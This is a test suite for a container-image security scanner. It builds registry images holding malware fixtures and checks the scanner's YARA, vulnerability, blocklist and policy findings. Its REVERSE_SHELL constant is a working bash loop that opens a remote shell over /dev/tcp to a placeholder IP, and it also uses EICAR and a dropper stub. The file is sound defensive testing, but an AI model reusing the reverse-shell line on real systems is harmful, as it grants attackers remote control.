import { createHash, randomBytes } from 'node:crypto';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from './helpers/cli.js';
import { EICAR } from './helpers/eicar.js';
import { buildLayeredImage } from './helpers/image-build.js';
import { freePort, MEDIA_TYPES, pushBlob, pushLayout, putManifest, startRegistry, type LocalRegistry, type PushedImage } from './helpers/registry.js';

const here = path.dirname(fileURLToPath(import.meta.url));
const npmAdvisories = path.join(here, 'fixtures', 'osv', 'npm');

const REVERSE_SHELL = '#!/bin/bash\nwhile :; do bash -i >& /dev/tcp/203.0.113.7/4444 0>&1; sleep 30; done\n';
const DROPPER = Buffer.from('#!/bin/sh\n# fetched helper, known bad\necho dropped > /tmp/x\n');

let work: string;
let registry: LocalRegistry;
let web: PushedImage;
let clean: PushedImage;
let database: string;

interface JsonFinding {
  ruleId: string;
  severity: string;
  message: string;
  location: { path: string; line: number };
  snippet: string;
  fingerprint: string;
  properties: Record<string, string | number | boolean>;
}
interface JsonReport {
  findings: JsonFinding[];
  diagnostics: Array<{ path: string; line?: number; message: string; kind: string }>;
  images: Array<{ reference: string; digest?: string; tagResolved: boolean; error?: string; findings: number; vulnerabilities: string; referencedAt: Array<{ path: string; line: number }>; platforms: Array<{ os?: string; packages: Record<string, number> }> }>;
}

async function scanJson(repo: string, extra: readonly string[] = []): Promise<{ code: number; report: JsonReport; stderr: string }> {
  const result = await runCli(['scan', repo, '--analyze-images', '--insecure-registry', registry.host, '-f', 'json', '-q', ...extra]);
  return { code: result.code, report: result.stdout ? (JSON.parse(result.stdout) as JsonReport) : { findings: [], diagnostics: [], images: [] }, stderr: result.stderr };
}

function deployment(name: string, image: string): string {
  return `apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: ${name}\nspec:\n  template:\n    spec:\n      containers:\n        - name: ${name}\n          image: ${image}\n`;
}

async function repository(name: string, files: Record<string, string>): Promise<string> {
  const root = path.join(work, 'repos', name);
  for (const [file, text] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(root, file)), { recursive: true });
    await writeFile(path.join(root, file), text);
  }
  return root;
}

const imageFindings = (report: JsonReport): JsonFinding[] => report.findings.filter((finding) => finding.properties?.['imageDigest'] !== undefined);

beforeAll(async () => {
  work = await mkdtemp(path.join(tmpdir(), 'rampart-analyze-images-'));
  process.env['XDG_CACHE_HOME'] = path.join(work, 'cache');
  registry = await startRegistry();
  const webLayout = await buildLayeredImage(work, 'web', 'v1', [
    { files: { 'app/node_modules/minimist/package.json': '{"name":"minimist","version":"1.2.5"}', 'etc/os-release': 'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n' }, createdBy: 'COPY app /app' },
    { files: { 'usr/local/bin/sync-agent': REVERSE_SHELL, 'opt/helper.sh': DROPPER, 'var/tmp/eicar.com': EICAR }, modes: { 'usr/local/bin/sync-agent': 0o755, 'opt/helper.sh': 0o755, 'var/tmp/eicar.com': 0o755 }, createdBy: 'RUN curl -o /usr/local/bin/sync-agent https://example.net/agent' },
  ]);
  web = await pushLayout(registry, webLayout, 'v1', 'team/web', '1.0');
  const cleanLayout = await buildLayeredImage(work, 'clean', 'v1', [{ files: { 'etc/motd': 'hello\n' } }]);
  clean = await pushLayout(registry, cleanLayout, 'v1', 'team/clean', '2.0');
  database = path.join(work, 'vulndb');
  const imported = await runCli(['db', 'import', '--db', database, npmAdvisories]);
  expect(imported.code).toBe(0);
}, 180_000);

afterAll(async () => {
  await registry?.stop();
  await rm(work, { recursive: true, force: true });
});

describe('scan --analyze-images', () => {
  it('reports each image finding at every manifest line that deploys the image, with the image, digest, layer and path', async () => {
    const pinned = `${registry.host}/team/web@${web.digest}`;
    const repo = await repository('pinned', {
      'apps/web.yaml': deployment('web', pinned),
      'apps/web-canary.yaml': `# canary\n${deployment('web-canary', pinned)}`,
    });
    const { code, report } = await scanJson(repo, ['--db', database]);
    expect(code).toBe(1);
    const found = imageFindings(report);
    const malware = found.filter((finding) => finding.ruleId === 'image-malware');
    expect(malware.map((finding) => [finding.location.path, finding.location.line, finding.properties['path'], finding.properties['yaraRule']]).sort()).toEqual([
      ['apps/web-canary.yaml', 11, 'usr/local/bin/sync-agent', 'rampart_reverse_shell'],
      ['apps/web-canary.yaml', 11, 'var/tmp/eicar.com', 'rampart_eicar_test_file'],
      ['apps/web.yaml', 10, 'usr/local/bin/sync-agent', 'rampart_reverse_shell'],
      ['apps/web.yaml', 10, 'var/tmp/eicar.com', 'rampart_eicar_test_file'],
    ]);
    const shell = malware.find((finding) => finding.location.path === 'apps/web.yaml' && finding.properties['path'] === 'usr/local/bin/sync-agent')!;
    expect(shell.properties).toMatchObject({ image: pinned, imageDigest: web.digest, layer: 1, source: 'kubernetes' });
    expect(shell.properties['tagResolved']).toBeUndefined();
    expect(shell.snippet).toContain(`image: ${pinned}`);
    expect(shell.message).toMatch(new RegExp(`^${pinned.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: usr/local/bin/sync-agent in layer 1 matches YARA rule rampart_reverse_shell`));
    const vulnerability = found.find((finding) => finding.ruleId === 'image-vulnerability' && finding.location.path === 'apps/web.yaml')!;
    expect(vulnerability.properties).toMatchObject({ advisory: 'GHSA-xvch-5gv4-984h', aliases: 'CVE-2021-44906', package: 'minimist', path: 'app/node_modules/minimist/package.json', layer: 0, imageDigest: web.digest });
    expect(vulnerability.severity).toBe('critical');
    // one image, read once, listed once with both lines
    expect(report.images).toHaveLength(1);
    expect(report.images[0]).toMatchObject({ reference: pinned, digest: web.digest, tagResolved: false, vulnerabilities: 'checked' });
    expect(report.images[0]!.referencedAt).toEqual([{ path: 'apps/web-canary.yaml', line: 11 }, { path: 'apps/web.yaml', line: 10 }]);
    expect(report.images[0]!.platforms[0]).toMatchObject({ os: 'Debian GNU/Linux 12 (bookworm)', packages: { npm: 1 } });
    expect(new Set(found.map((finding) => finding.fingerprint)).size).toBe(found.length);
  });

  it('resolves a tag to its digest and says so; without a database the packages are unchecked, never clean', async () => {
    const repo = await repository('tagged', { 'docker-compose.yml': `services:\n  web:\n    image: ${registry.host}/team/web:1.0\n  motd:\n    image: ${registry.host}/team/clean:2.0\n` });
    const { code, report } = await scanJson(repo, ['--db', path.join(work, 'no-db')]);
    expect(code).toBe(1);
    const web10 = imageFindings(report).filter((finding) => finding.properties['image'] === `${registry.host}/team/web:1.0`);
    expect(web10.length).toBeGreaterThan(0);
    expect(web10.every((finding) => finding.properties['tagResolved'] === true && finding.properties['imageDigest'] === web.digest && finding.location.line === 3)).toBe(true);
    expect(web10[0]!.message).toContain(`(tag resolved to ${web.digest})`);
    expect(web10.some((finding) => finding.ruleId === 'image-vulnerability')).toBe(false);
    expect(report.images.map((image) => [image.reference, image.digest, image.tagResolved, image.vulnerabilities])).toEqual([
      [`${registry.host}/team/web:1.0`, web.digest, true, 'unchecked'],
      [`${registry.host}/team/clean:2.0`, clean.digest, true, 'unchecked'],
    ]);
    expect(report.diagnostics.some((diagnostic) => diagnostic.path === 'docker-compose.yml' && diagnostic.line === 3 && /npm package was not checked for vulnerabilities/.test(diagnostic.message))).toBe(true);
  });

  it('--max-db-age fails the scan on a stale ecosystem the images were checked against, naming it and its age; a stale one they do not use is not looked at', async () => {
    const day = 86_400_000;
    /** a database of one npm record (minimist, which the web image holds) modified `npmDays` ago and one Go record modified 400 days ago */
    const databaseWith = async (npmDays: number): Promise<string> => {
      const records = path.join(work, `age-${npmDays}`);
      const npm = JSON.parse(await readFile(path.join(npmAdvisories, 'GHSA-xvch-5gv4-984h.json'), 'utf8')) as Record<string, unknown>;
      await mkdir(path.join(records, 'npm'), { recursive: true });
      await mkdir(path.join(records, 'go'), { recursive: true });
      await writeFile(path.join(records, 'npm', 'GHSA-xvch-5gv4-984h.json'), JSON.stringify({ ...npm, modified: new Date(Date.now() - npmDays * day).toISOString() }));
      await writeFile(path.join(records, 'go', 'GO-2000-0001.json'), JSON.stringify({
        id: 'GO-2000-0001', modified: new Date(Date.now() - 400 * day).toISOString(), summary: 'an old Go advisory',
        affected: [{ package: { ecosystem: 'Go', name: 'example.com/unused' }, ranges: [{ type: 'SEMVER', events: [{ introduced: '0' }, { fixed: '1.0.0' }] }] }],
      }));
      const db = path.join(work, `age-${npmDays}-db`);
      expect((await runCli(['db', 'import', '--db', db, records])).code).toBe(0);
      return db;
    };
    const repo = await repository('db-age', { 'apps/web.yaml': deployment('web', `${registry.host}/team/web@${web.digest}`) });
    const fresh = await scanJson(repo, ['--db', await databaseWith(1), '--max-db-age', '7d', '--fail-on', 'none']);
    expect(fresh.report.diagnostics.filter((diagnostic) => diagnostic.message.includes('--max-db-age'))).toEqual([]);
    expect(fresh.report.images[0]!.vulnerabilities).toBe('checked');
    expect(fresh.code).toBe(0);
    const stale = await scanJson(repo, ['--db', await databaseWith(30), '--max-db-age', '7d', '--fail-on', 'none']);
    expect(stale.code).toBe(2);
    const age = stale.report.diagnostics.filter((diagnostic) => diagnostic.message.includes('--max-db-age'));
    expect(age).toHaveLength(1);
    expect(age[0]).toMatchObject({ kind: 'incomplete' });
    expect(age[0]!.message).toMatch(/^--max-db-age 7d: the npm vulnerability data is 30 days old \(newest record modified \S+\); import a current OSV export with rampart db import$/);
    // what was found is still reported
    expect(imageFindings(stale.report).some((finding) => finding.properties['advisory'] === 'GHSA-xvch-5gv4-984h')).toBe(true);
  });

  it('reports an image the registry cannot serve at its lines and analyses the others (exit 2: incomplete)', async () => {
    const deadPort = await freePort();
    const repo = await repository('broken', {
      'web.yaml': deployment('web', `${registry.host}/team/web@${web.digest}`),
      'missing.yaml': deployment('missing', `${registry.host}/team/missing:9.9`),
      'down.yaml': deployment('down', `127.0.0.1:${deadPort}/team/app:1`),
    });
    const result = await runCli(['scan', repo, '--analyze-images', '--insecure-registry', `${registry.host},127.0.0.1:${deadPort}`, '--registry-timeout', '5', '-f', 'json', '-q']);
    expect(result.code).toBe(2);
    const report = JSON.parse(result.stdout) as JsonReport;
    expect(imageFindings(report).some((finding) => finding.location.path === 'web.yaml' && finding.ruleId === 'image-malware')).toBe(true);
    const missing = report.diagnostics.find((diagnostic) => diagnostic.path === 'missing.yaml')!;
    expect(missing).toMatchObject({ line: 10, kind: 'incomplete' });
    expect(missing.message).toContain(`${registry.host}/team/missing:9.9`);
    const down = report.diagnostics.find((diagnostic) => diagnostic.path === 'down.yaml')!;
    expect(down).toMatchObject({ line: 10, kind: 'incomplete' });
    expect(report.images.filter((image) => image.error).map((image) => image.reference).sort()).toEqual([`${registry.host}/team/missing:9.9`, `127.0.0.1:${deadPort}/team/app:1`].sort());
  });

  it('analyses the earlier images whole when later ones, opened while those are read, fail: a manifest the registry does not have, a config that is not JSON, a layer that is no tar', async () => {
    /** an OCI image of `team/<name>` with this config and one layer, stored through the registry API */
    const rawImage = async (name: string, config: string, layer: Buffer): Promise<string> => {
      const repository = `team/${name}`;
      const configDigest = await pushBlob(registry, repository, config);
      const layerDigest = await pushBlob(registry, repository, layer);
      const manifest = Buffer.from(JSON.stringify({
        schemaVersion: 2,
        mediaType: MEDIA_TYPES.ociManifest,
        config: { mediaType: 'application/vnd.oci.image.config.v1+json', digest: configDigest, size: Buffer.byteLength(config) },
        layers: [{ mediaType: 'application/vnd.oci.image.layer.v1.tar', digest: layerDigest, size: layer.length }],
      }));
      return (await putManifest(registry, repository, '1', manifest, MEDIA_TYPES.ociManifest)).digest;
    };
    const garbage = randomBytes(2 * 1024 * 1024); // spooled and read by the layer worker like a real layer
    await rawImage('no-tar', JSON.stringify({ architecture: 'amd64', os: 'linux', rootfs: { type: 'layers', diff_ids: [`sha256:${createHash('sha256').update(garbage).digest('hex')}`] } }), garbage);
    const noConfig = await rawImage('no-config', 'not json', Buffer.from('layer'));
    const gone = `${registry.host}/team/web@sha256:${'0'.repeat(64)}`;
    const repo = await repository('later-fail', {
      'a-web.yaml': deployment('web', `${registry.host}/team/web@${web.digest}`),
      'b-clean.yaml': deployment('clean', `${registry.host}/team/clean:2.0`),
      'c-gone.yaml': deployment('gone', gone),
      'd-no-config.yaml': deployment('no-config', `${registry.host}/team/no-config@${noConfig}`),
      'e-no-tar.yaml': deployment('no-tar', `${registry.host}/team/no-tar:1`),
    });
    const { code, report } = await scanJson(repo, ['--db', database]);
    expect(code).toBe(2);
    expect(imageFindings(report).filter((finding) => finding.location.path === 'a-web.yaml' && finding.ruleId === 'image-malware').map((finding) => finding.properties['yaraRule']).sort()).toEqual(['rampart_eicar_test_file', 'rampart_reverse_shell']);
    expect(report.images.map((image) => [image.reference, image.error === undefined])).toEqual([
      [`${registry.host}/team/web@${web.digest}`, true],
      [`${registry.host}/team/clean:2.0`, true],
      [gone, false],
      [`${registry.host}/team/no-config@${noConfig}`, true],
      [`${registry.host}/team/no-tar:1`, true],
    ]);
    const at = (file: string): Array<{ line?: number; kind: string; message: string }> => report.diagnostics.filter((diagnostic) => diagnostic.path === file);
    expect(at('a-web.yaml').filter((diagnostic) => diagnostic.kind === 'incomplete')).toEqual([]);
    expect(at('b-clean.yaml').filter((diagnostic) => diagnostic.kind === 'incomplete')).toEqual([]);
    expect(at('c-gone.yaml')).toEqual([expect.objectContaining({ line: 10, kind: 'incomplete', message: expect.stringContaining(`${gone} could not be analysed`) })]);
    expect(at('d-no-config.yaml')).toEqual(expect.arrayContaining([expect.objectContaining({ line: 10, kind: 'incomplete', message: expect.stringContaining('is not JSON') })]));
    expect(at('e-no-tar.yaml')).toEqual(expect.arrayContaining([expect.objectContaining({ line: 10, kind: 'incomplete', message: expect.stringContaining('layer 0') })]));
  });

  it('writes SARIF results at the manifest line with the image properties, and text naming the image', async () => {
    const pinned = `${registry.host}/team/web@${web.digest}`;
    const repo = await repository('sarif', { 'web.yaml': deployment('web', pinned) });
    const sarif = await runCli(['scan', repo, '--analyze-images', '--insecure-registry', registry.host, '-f', 'sarif', '-q']);
    const results = (JSON.parse(sarif.stdout) as { runs: Array<{ results: Array<{ ruleId: string; locations: Array<{ physicalLocation: { artifactLocation: { uri: string }; region: { startLine: number } } }>; properties: Record<string, unknown> }> }> }).runs[0]!.results;
    const eicar = results.find((result) => result.ruleId === 'image-malware' && result.properties['path'] === 'var/tmp/eicar.com')!;
    expect(eicar.locations[0]!.physicalLocation).toMatchObject({ artifactLocation: { uri: 'web.yaml' }, region: { startLine: 10 } });
    expect(eicar.properties).toMatchObject({ image: pinned, imageDigest: web.digest, layer: 1 });
    const text = await runCli(['scan', repo, '--analyze-images', '--insecure-registry', registry.host, '--no-color', '-q']);
    expect(text.code).toBe(1);
    expect(text.stdout).toContain('web.yaml:10');
    expect(text.stdout).toContain(`${pinned}: var/tmp/eicar.com in layer 1 matches YARA rule rampart_eicar_test_file`);
  });

  it('takes a suppression comment on the manifest line', async () => {
    const pinned = `${registry.host}/team/web@${web.digest}`;
    const repo = await repository('suppressed', { 'web.yaml': deployment('web', pinned).replace(/image: .*\n$/, (line) => `${line.trimEnd()} # rampart-ignore image-malware -- reviewed: test fixtures\n`) });
    const { report } = await scanJson(repo);
    expect(imageFindings(report).some((finding) => finding.ruleId === 'image-malware')).toBe(false);
  });
});

describe('the HTML report of scan --analyze-images, in Chromium', () => {
  it('lists each image with its digest, the lines naming it, an SBOM summary and its findings; an image that could not be read says why', async () => {
    const repo = await repository('html', {
      'web.yaml': deployment('web', `${registry.host}/team/web@${web.digest}`),
      'clean.yaml': deployment('clean', `${registry.host}/team/clean:2.0`),
      'missing.yaml': deployment('missing', `${registry.host}/team/missing:9.9`),
    });
    const file = path.join(work, 'report.html');
    const result = await runCli(['scan', repo, '--analyze-images', '--insecure-registry', registry.host, '--db', database, '-f', 'html', '-o', file, '-q']);
    expect(result.code).toBe(2);
    const browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'] });
    try {
      const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
      const problems: string[] = [];
      const requests: string[] = [];
      page.on('console', (message) => { if (message.type() === 'error' || message.type() === 'warning') problems.push(message.text()); });
      page.on('pageerror', (error) => problems.push(error.message));
      page.on('request', (request) => requests.push(request.url()));
      await page.goto(pathToFileURL(file).href);
      const cards = page.locator('section.images article.image-card');
      expect(await cards.count()).toBe(3);
      expect(await page.locator('#images-title .count').textContent()).toBe('3');
      const webCard = page.locator(`article.image-card[data-image="${registry.host}/team/web"]`);
      expect(await webCard.locator('.image-name').textContent()).toBe(`${registry.host}/team/web@${web.digest}`);
      expect(await webCard.locator('.digest').getAttribute('title')).toBe(web.digest);
      expect(await webCard.locator('.image-lines li').allTextContents()).toEqual(['web.yaml:10']);
      expect(await webCard.locator('.image-os').textContent()).toContain('Debian GNU/Linux 12 (bookworm)');
      expect(await webCard.locator('.ecosystem[data-ecosystem="npm"]').textContent()).toBe('npm 1');
      expect(await webCard.locator('.image-counts .badge.sev-critical').textContent()).toMatch(/^\d+ critical$/);
      expect(await webCard.locator('.image-finding').first().isVisible()).toBe(false);
      await webCard.locator('.image-findings > summary').click();
      const rules = await webCard.locator('.image-finding .image-rule').allTextContents();
      expect(rules).toEqual(expect.arrayContaining(['image-malware', 'image-vulnerability']));
      expect(await webCard.locator('.image-finding', { hasText: 'GHSA-xvch-5gv4-984h' }).count()).toBe(1);
      const cleanCard = page.locator(`article.image-card[data-image="${registry.host}/team/clean"]`);
      expect(await cleanCard.locator('.tag-resolved').textContent()).toBe('tag resolved');
      expect(await cleanCard.locator('.image-status.ok').textContent()).toBe('no findings');
      const missingCard = page.locator(`article.image-card[data-image="${registry.host}/team/missing"]`);
      expect(await missingCard.locator('.image-status.error').textContent()).toBe('not analysed');
      expect(await missingCard.locator('.image-error').textContent()).toContain('team/missing:9.9');
      // the image findings are also in the findings list, at the manifest line
      expect(await page.locator('article.finding[data-rule="image-malware"][data-path="web.yaml"]').count()).toBeGreaterThan(0);
      await mkdir(path.join(here, '..', 'test-artifacts'), { recursive: true });
      await page.screenshot({ path: path.join(here, '..', 'test-artifacts', 'report-images.png'), fullPage: false });
      expect(problems).toEqual([]);
      expect(requests).toEqual([pathToFileURL(file).href]);
    } finally {
      await browser.close();
    }
  }, 60_000);
});

/** an images policy: a threshold, an unexpired ignore by alias for the registry's team/ images, an expired entry */
function policyYaml(minSeverity: string): string {
  return [
    'images:',
    `  minSeverity: ${minSeverity}`,
    '  ignore:',
    '    - id: CVE-2021-44906',
    '      reason: minimist only parses our own fixed arguments',
    '      expires: 2999-12-31',
    '      images: ["127.0.0.1:*/team/**"]',
    '    - id: GHSA-4444-4444-4444',
    '      reason: was waiting for a fix',
    '      expires: 2020-01-31',
    '',
  ].join('\n');
}

describe('.rampart.yaml images policy', () => {
  it('drops image findings under minSeverity, ignores an advisory by alias until its expiry, and names expired entries', async () => {
    const pinned = `${registry.host}/team/web@${web.digest}`;
    const config = policyYaml('high');
    const repo = await repository('policy', { 'web.yaml': deployment('web', pinned), '.rampart.yaml': config });
    const { report } = await scanJson(repo, ['--db', database]);
    const found = imageFindings(report);
    expect(found.some((finding) => finding.properties['advisory'] === 'GHSA-xvch-5gv4-984h')).toBe(false);
    expect(found.every((finding) => finding.severity === 'high' || finding.severity === 'critical')).toBe(true);
    expect(report.diagnostics.find((diagnostic) => /GHSA-4444-4444-4444 expired on 2020-01-31/.test(diagnostic.message))).toMatchObject({ kind: 'note' });
    expect(report.images[0]).toMatchObject({ ignored: 1 });
  });

  it('applies to rampart image as to scan --analyze-images (-c FILE; default ./.rampart.yaml)', async () => {
    // web's findings plus a high one (an unowned setuid file) for minSeverity to drop
    const layout = await buildLayeredImage(work, 'web-setuid', 'v1', [
      { files: { 'app/node_modules/minimist/package.json': '{"name":"minimist","version":"1.2.5"}' } },
      { files: { 'usr/local/bin/sync-agent': REVERSE_SHELL, 'usr/local/bin/helper': '#!/bin/sh\nexec "$@"\n' }, modes: { 'usr/local/bin/sync-agent': 0o755, 'usr/local/bin/helper': 0o4755 } },
    ]);
    const pushed = await pushLayout(registry, layout, 'v1', 'team/web-setuid', '1.0');
    const pinned = `${registry.host}/team/web-setuid@${pushed.digest}`;
    const config = path.join(work, 'image-policy.yaml');
    await writeFile(config, policyYaml('critical'));
    const image = async (extra: readonly string[]): Promise<JsonReport> => {
      const result = await runCli(['image', pinned, '--insecure-registry', registry.host, '--db', database, '-f', 'json', '-q', '--fail-on', 'none', ...extra]);
      expect(result.stderr).toBe('');
      return JSON.parse(result.stdout) as JsonReport;
    };
    const unfiltered = await image([]);
    expect(unfiltered.findings.some((finding) => finding.properties['advisory'] === 'GHSA-xvch-5gv4-984h')).toBe(true);
    expect(unfiltered.findings.some((finding) => finding.severity !== 'critical')).toBe(true);
    const filtered = await image(['-c', config]);
    expect(filtered.findings.some((finding) => finding.properties['advisory'] === 'GHSA-xvch-5gv4-984h')).toBe(false);
    expect(filtered.findings.every((finding) => finding.severity === 'critical')).toBe(true);
    expect(filtered.findings.map((finding) => finding.properties['yaraRule']).filter(Boolean)).toEqual(['rampart_reverse_shell']);
    expect(unfiltered.findings.find((finding) => finding.ruleId === 'image-unowned-setuid')).toMatchObject({ severity: 'high' });
    const below = unfiltered.findings.filter((finding) => finding.severity !== 'critical').length;
    expect(filtered.diagnostics).toEqual(expect.arrayContaining([
      expect.objectContaining({ kind: 'note', message: expect.stringMatching(/GHSA-4444-4444-4444 expired on 2020-01-31/) }),
      expect.objectContaining({ kind: 'note', message: `not reported by the images policy: ${below} ${below === 1 ? 'finding' : 'findings'} below images.minSeverity, 1 ignored by images.ignore` }),
    ]));
    const here = process.cwd();
    const checkout = await repository('image-policy-cwd', { '.rampart.yaml': await readFile(config, 'utf8') });
    process.chdir(checkout);
    try {
      expect((await image([])).findings).toEqual(filtered.findings);
    } finally {
      process.chdir(here);
    }
    // the same policy through scan --analyze-images keeps the same image findings
    const repo = await repository('image-policy', { 'web.yaml': deployment('web', pinned) });
    const { report } = await scanJson(repo, ['--db', database, '-c', config]);
    const key = (finding: JsonFinding): string => `${finding.ruleId} ${finding.properties['path']} ${finding.properties['advisory'] ?? finding.properties['yaraRule'] ?? ''}`;
    expect(imageFindings(report).map(key).sort()).toEqual(filtered.findings.map(key).sort());
    const broken = path.join(work, 'broken-policy.yaml');
    await writeFile(broken, 'images:\n  ignore:\n    - id: CVE-2024-3094\n      expires: 2024-13-01\n');
    const rejected = await runCli(['image', pinned, '--insecure-registry', registry.host, '-q', '-c', broken]);
    expect(rejected.code).toBe(2);
    expect(rejected.stderr).toMatch(/broken-policy\.yaml/);
    expect(rejected.stderr).toMatch(/images\.ignore\.0\.expires: not a calendar date/);
  });

  it('rejects an ignore entry without a reason or with a bad date, naming the file and the field', async () => {
    const repo = await repository('bad-policy', {
      'web.yaml': deployment('web', `${registry.host}/team/web@${web.digest}`),
      '.rampart.yaml': 'images:\n  ignore:\n    - id: CVE-2024-3094\n      expires: 2024-13-01\n',
    });
    const result = await runCli(['scan', repo, '--analyze-images', '--insecure-registry', registry.host, '-q']);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('.rampart.yaml');
    expect(result.stderr).toMatch(/images\.ignore\.0\.reason/);
    expect(result.stderr).toMatch(/images\.ignore\.0\.expires: not a calendar date/);
  });
});

describe('--blocklist', () => {
  it('reports a file of any layer whose SHA-256 is listed as image-malware, in scan and in rampart image', async () => {
    const digest = createHash('sha256').update(DROPPER).digest('hex');
    const list = path.join(work, 'blocklist.txt');
    await writeFile(list, `# operator list\n${'0'.repeat(64)}  harmless placeholder\n${digest} dropper seen in incident 42\n`);
    const pinned = `${registry.host}/team/web@${web.digest}`;
    const repo = await repository('blocklist', { 'web.yaml': deployment('web', pinned) });
    const { report } = await scanJson(repo, ['--blocklist', list]);
    const listed = imageFindings(report).filter((finding) => finding.properties['detector'] === 'blocklist');
    expect(listed.map((finding) => [finding.ruleId, finding.severity, finding.properties['path'], finding.properties['sha256'], finding.location.line])).toEqual([
      ['image-malware', 'critical', 'opt/helper.sh', digest, 10],
    ]);
    expect(listed[0]!.message).toContain('dropper seen in incident 42');
    const image = await runCli(['image', pinned, '--insecure-registry', registry.host, '--blocklist', list, '-f', 'json']);
    const direct = (JSON.parse(image.stdout) as JsonReport).findings.filter((finding) => finding.properties['detector'] === 'blocklist');
    expect(direct.map((finding) => [finding.location.path, finding.properties['layer']])).toEqual([['opt/helper.sh', 1]]);
  });

  it('names the file and line of a malformed blocklist (exit 2)', async () => {
    const list = path.join(work, 'bad-blocklist.txt');
    await writeFile(list, `${'a'.repeat(64)}\nnot-a-digest\n`);
    const repo = await repository('bad-blocklist', { 'web.yaml': deployment('web', `${registry.host}/team/web@${web.digest}`) });
    const scan = await runCli(['scan', repo, '--analyze-images', '--insecure-registry', registry.host, '--blocklist', list, '-q']);
    expect(scan.code).toBe(2);
    expect(scan.stderr).toContain(`${list}:2: expected a SHA-256`);
    const image = await runCli(['image', `${registry.host}/team/web@${web.digest}`, '--insecure-registry', registry.host, '--blocklist', list]);
    expect(image.code).toBe(2);
    expect(image.stderr).toContain(`${list}:2: expected a SHA-256`);
  });
  it('analyses images two at a time with their layers downloaded ahead, and every image keeps its own findings', async () => {
    // several megabytes of executables per image keep YARA answers in flight while the next image is read
    const executables = (seed: number): Record<string, Buffer> => Object.fromEntries(Array.from({ length: 24 }, (_, file) => [
      `usr/lib/tool-${seed}/part-${file}.so`,
      Buffer.from(createHash('sha512').update(`${seed}:${file}`).digest('hex').repeat(1500).slice(0, 160_000 + file * 997)),
    ]));
    const shared = { files: { 'etc/os-release': 'ID=debian\nVERSION_ID="12"\n', 'usr/local/bin/agent': REVERSE_SHELL }, modes: { 'usr/local/bin/agent': 0o755 }, createdBy: 'COPY base /' };
    const deployed: Record<string, string> = {};
    for (let index = 0; index < 5; index += 1) {
      const layout = await buildLayeredImage(work, `fleet-${index}`, 'v1', [
        shared,
        // 1.5 MB that does not compress: the layer blob is past WORKER_MIN_BYTES, so its spooled file is read by the layer worker
        { files: { ...executables(index), 'var/cache/app/state.bin': randomBytes(1_500_000), [`opt/drop-${index}.sh`]: DROPPER, [`srv/eicar-${index}.com`]: EICAR }, modes: { [`opt/drop-${index}.sh`]: 0o755, [`srv/eicar-${index}.com`]: 0o755 }, createdBy: `COPY app-${index} /` },
      ]);
      const pushed = await pushLayout(registry, layout, 'v1', `fleet/app-${index}`, '1.0');
      deployed[`app-${index}.yaml`] = deployment(`app-${index}`, `${registry.host}/fleet/app-${index}@${pushed.digest}`);
    }
    const repo = await repository('fleet', deployed);
    const { code, report } = await scanJson(repo, ['--no-image-cache']);
    expect(code).toBe(1);
    for (let index = 0; index < 5; index += 1) {
      const own = imageFindings(report).filter((finding) => finding.location.path === `app-${index}.yaml` && finding.ruleId === 'image-malware').map((finding) => finding.properties['path']).sort();
      expect(own).toEqual([`srv/eicar-${index}.com`, 'usr/local/bin/agent']);
    }
    expect(report.images.map((image) => image.reference.split('@')[0])).toEqual(Array.from({ length: 5 }, (_, index) => `${registry.host}/fleet/app-${index}`));
  }, 180_000);
});
